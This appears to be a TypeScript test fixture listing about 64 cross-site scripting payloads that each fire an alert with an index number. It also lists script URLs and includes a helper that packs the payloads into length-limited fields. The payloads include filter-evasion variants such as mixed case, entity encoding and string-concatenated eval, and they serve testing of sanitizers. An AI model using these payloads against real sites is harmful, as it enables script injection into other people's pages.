/** Ways to make a page run what somebody typed. § is the number a payload tells when it runs. Source: TRUST S5. */
const RAW = [
  '<script>alert(§)</script>',
  '"><script>alert(§)</script>',
  "'><script>alert(§)</script>",
  '</title><script>alert(§)</script>',
  '</textarea><script>alert(§)</script>',
  '</style><script>alert(§)</script>',
  '</script><script>alert(§)</script>',
  '--><script>alert(§)</script>',
  '<ScRiPt>alert(§)</sCrIpT>',
  '<script/x>alert(§)</script>',
  '<script\n>alert(§)</script>',
  '<script>alert(§)//</script>',
  '<script src="data:text/javascript,alert(§)"></script>',
  '<script type=module>alert(§)</script>',
  '<svg><script>alert(§)</script></svg>',
  '<svg><script>alert&#40;§&#41;</script></svg>',
  '<img src=x onerror=alert(§)>',
  '"><img src=x onerror=alert(§)>',
  '<img src=x oNeRrOr=alert(§)>',
  '<img/src="x"/onerror=alert(§)>',
  '<img src=x onerror=alert(§) <b>x</b>',
  '<img src=x onerror=&#97;lert(§)>',
  '<img src=x onerror=eval("al"+"ert(§)")>',
  '<img src=x onerror=setTimeout("alert(§)")>',
  '<img src=x onerror=Function("alert(§)")()>',
  '<img srcset=x onerror=alert(§)>',
  '<image src=x onerror=alert(§)>',
  '<svg onload=alert(§)>',
  '<svg/onload=alert(§)>',
  '<p tabindex=1 autofocus onfocus=alert(§)>x</p>',
  '<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>',
  '<svg><set onbegin=alert(§) attributeName=x></svg>',
  '<svg><image href=x onerror=alert(§) /></svg>',
  '<body onload=alert(§)>',
  '<body onpageshow=alert(§)>',
  '<iframe onload=alert(§)></iframe>',
  '<iframe src="javascript:parent.alert(§)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>',
  '<input type=image src=x onerror=alert(§)>',
  '<object data=x onerror=alert(§)></object>',
  '<video src=x onerror=alert(§)></video>',
  '<video><source onerror=alert(§) src=x></video>',
  '<audio src=x onerror=alert(§)></audio>',
  '<input autofocus onfocus=alert(§)>',
  '<textarea autofocus onfocus=alert(§)></textarea>',
  '<select autofocus onfocus=alert(§)></select>',
  '<button autofocus onfocus=alert(§)>x</button>',
  '<details open ontoggle=alert(§)>x</details>',
  '<link rel=stylesheet href="data:text/css,x" onload=alert(§)>',
  '<style onload=alert(§)>x</style>',
  '<a href="javascript:alert(§)">x</a>',
  '<a href="JaVaScRiPt:alert(§)">x</a>',
  '<a href="java&#10;script:alert(§)">x</a>',
  '<a href=" javascript:alert(§)">x</a>',
  '<form action="javascript:alert(§)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(§)">x</button></form>',
  '<svg><a href="javascript:alert(§)"><text y=20>x</text></a></svg>',
  '<x-y tabindex=1 autofocus onfocus=alert(§)>x</x-y>',
  '<noscript><p title="</noscript><img src=x onerror=alert(§)>"></noscript>',
  '<template><s></template><img src=x onerror=alert(§)>',
  "<details open ontoggle=\"self['al'+'ert'](§)\">x</details>",
  'javascript:alert(§)',
  'data:text/html,<script>alert(§)</script>',
  '{{constructor.constructor("alert(§)")()}}',
];

export const PAYLOADS = RAW.map((raw, index) => raw.replaceAll('§', String(index)));
/** A payload with the word that shows where it stands as text. */
export const marked = (payload: string): string => `mark${PAYLOADS.indexOf(payload)}. ${payload}`;
/** Addresses that are scripts. */
export const ADDRESSES = [
  'javascript:alert(900)',
  ' javascript:alert(901)',
  'java\nscript:alert(902)',
  'JAVASCRIPT:alert(903)',
  'data:text/html,<script>alert(904)</script>',
  'vbscript:alert(905)',
];
/** The payloads together, as many as fit into a place of this length. */
export function packed(longest: number): string[] {
  const packs = [''];
  for (const word of PAYLOADS.map(marked)) {
    const last = packs.length - 1;
    if (`${packs[last]} ${word}`.length <= longest) packs[last] += ` ${word}`;
    else packs.push(word);
  }
  return packs;
}
